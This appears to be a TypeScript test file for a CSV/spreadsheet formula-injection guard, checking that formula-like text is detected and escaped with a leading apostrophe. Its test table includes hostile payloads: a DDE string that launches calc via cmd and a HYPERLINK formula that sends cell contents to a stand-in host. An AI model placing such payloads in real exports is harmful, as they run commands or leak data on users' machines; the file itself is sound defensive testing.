import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeFormulaText, isFormulaLike } from '../../../shared/safe-output';

describe('text a spreadsheet could run as a formula', () => {
  it.each([
    ['=1+1', true],
    ['=HYPERLINK("http://x.example/?"&A1,"点我")', true],
    ['+86 10 1234 5678', true],
    ["-2+3+cmd|' /C calc'!A0", true],
    ['@SUM(A1:A2)', true],
    ['\t=1+1', true],
    ['\r=1+1', true],
    ['', false],
    ['财政局', false],
    [' =1+1', false],
    ['a=1', false],
    ['\n=1', false],
    ["'=1", false],
    ['＝1+1', false],
  ])('%j is formula-like: %s', (value, expected) => {
    expect(isFormulaLike(value)).toBe(expected);
  });

  it('marks formula-like text as text and quotes it for CSV with one leading apostrophe', () => {
    expect(escapeFormulaText('=SUM(A1:A9)')).toEqual({ text: "'=SUM(A1:A9)", mustBeText: true });
    expect(escapeFormulaText('-5')).toEqual({ text: "'-5", mustBeText: true });
    expect(escapeFormulaText('\t@x')).toEqual({ text: "'\t@x", mustBeText: true });
  });

  it('leaves ordinary text exactly as it is', () => {
    expect(escapeFormulaText('某某县财政局')).toEqual({ text: '某某县财政局', mustBeText: false });
    expect(escapeFormulaText('')).toEqual({ text: '', mustBeText: false });
  });

  it('never leaves a result that still starts like a formula, and changes only the first character', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (value) => {
        const { text, mustBeText } = escapeFormulaText(value);
        expect(isFormulaLike(text)).toBe(false);
        expect(mustBeText).toBe(isFormulaLike(value));
        expect(text).toBe(mustBeText ? `'${value}` : value);
      }),
      { numRuns: 500 },
    );
  });

  it('treats every string starting with one of = + - @ tab CR as formula-like, whatever follows', () => {
    fc.assert(
      fc.property(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string(), (first, rest) => {
        expect(isFormulaLike(first + rest)).toBe(true);
      }),
    );
  });
});
